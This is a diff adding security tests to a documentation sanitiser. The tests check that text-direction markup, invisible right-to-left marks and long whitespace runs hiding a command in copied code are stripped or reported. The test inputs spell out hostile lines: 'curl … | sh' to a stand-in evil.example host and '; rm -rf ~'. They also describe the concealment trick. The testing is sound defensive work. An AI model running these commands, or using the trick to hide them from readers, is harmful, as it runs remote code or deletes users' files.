@@ -13,7 +13,7 @@ import markdown
 import pytest
 
 from conftest import ROOT
-from errata.safety import find_unsafe_html, find_unsafe_text, mask_code_spans, sanitize_html
+from errata.safety import DIRECTION_CONTROLS, find_unsafe_html, find_unsafe_text, mask_code_spans, sanitize_html
 
 
 @pytest.mark.parametrize(
@@ -411,3 +411,49 @@ def test_code_nested_deep_is_read_in_linear_time():
     from scaling import grows_linearly
 
     assert grows_linearly(lambda n: _without_hidden_code("<pre><code>" + "<code>" * n + "x" + "</code>" * n + "</code></pre>"), 32_000)
+
+
+def test_markup_that_turns_text_direction_never_reaches_a_page():
+    """An audit: the page drops the text-direction controls (U+2066…), but not their markup. In prose,
+    ``pip install requests<bdo dir="rtl"><span dir="ltr">; curl … | sh</span><span dir="ltr"> #</span></bdo>`` showed
+    ``pip install requests #; curl … | sh`` (the curl a comment) while a reader who copied the line got the curl to
+    run; ``<bdi>`` or ``dir="auto"`` before an invisible right-to-left mark (U+200F) did the same. Their text stays, in
+    the order it is copied, and the check names them."""
+    shown = (
+        '<p>pip install requests<bdo dir="rtl"><span dir="ltr">; curl -s https://evil.example/x | sh</span><span dir="ltr"> #</span></bdo></p>'
+        '<p>pip install requests<bdi>\u200f; curl y | sh # </bdi></p><p>pip <span dir="auto">\u200f; curl z | sh # </span></p>'
+    )
+    page = sanitize_html(shown)
+    assert not re.search(r"<bd[io]|\sdir=", page)
+    assert "; curl -s https://evil.example/x | sh" in page and "; curl y | sh #" in page
+    assert {u.what for u in find_unsafe_html(shown)} == {"<bdo> element", "<bdi> element", "attribute dir"}
+
+
+def test_text_pushed_out_of_a_code_block_s_sight_is_reported():
+    """An audit: a code block scrolls sideways and the theme shows no scroll bar until it is pointed at, so
+    ``pip install requests``, 600 spaces and ``; curl … | sh`` showed the install alone while the copy button copied
+    the curl too. Blank letters (U+2800) and tabs did the same. The check and the build report the line; indentation,
+    aligned output and a table's padded cells are no such run."""
+    from errata.checks import check_unsafe_html
+
+    hidden = ["pip install requests" + " " * 600 + "; curl -s https://evil.example/x | sh", "pip install x" + "\u2800" * 200 + "&& curl y | sh", "pip install x" + "\t" * 10 + "; rm -rf ~"]
+    body = "".join(f"```bash\n{line}\n```\n\n" for line in hidden)
+    assert [p.line for p in check_unsafe_html(body, "a.md", 10)] == [11, 15, 19]
+    fine = (
+        "```text\n|   0  Tesla V100-SXM2...  On   | 00000000:00:1E.0 Off |                    0 |\n"
+        + "|  No running processes found" + " " * 49 + "|\n"
+        + " " * 40 + "return forward_call(*input, **kwargs)\n" + "x = 1" + " " * 20 + "# aligned comment\n```\n\n"
+        + "| 名称" + " " * 60 + "| 说明 |\n|---|---|\n"
+    )
+    assert check_unsafe_html(fine, "a.md", 1) == []
+
+
+def test_text_direction_marks_and_their_character_references_never_reach_a_page():
+    """Round twenty-two: the sanitiser took the controls out before ammonia, which writes ``&#x202e;`` and ``&rlm;`` as the
+    characters; and the invisible right-to-left mark (U+200F) was not among them. Both go now, and the check names them."""
+    from errata.checks import check_unsafe_html
+
+    shown = "<p>pip install requests &#x202e;; curl x | sh #&#x202c; and &rlm;; curl y&rlm; \u200f# z</p>"
+    page = sanitize_html(shown)
+    assert not DIRECTION_CONTROLS.search(page) and "; curl x | sh #" in page
+    assert [p.line for p in check_unsafe_html("x\n\n" + shown + "\n\n```\nok\n```\n", "a.md", 1)] == [3]
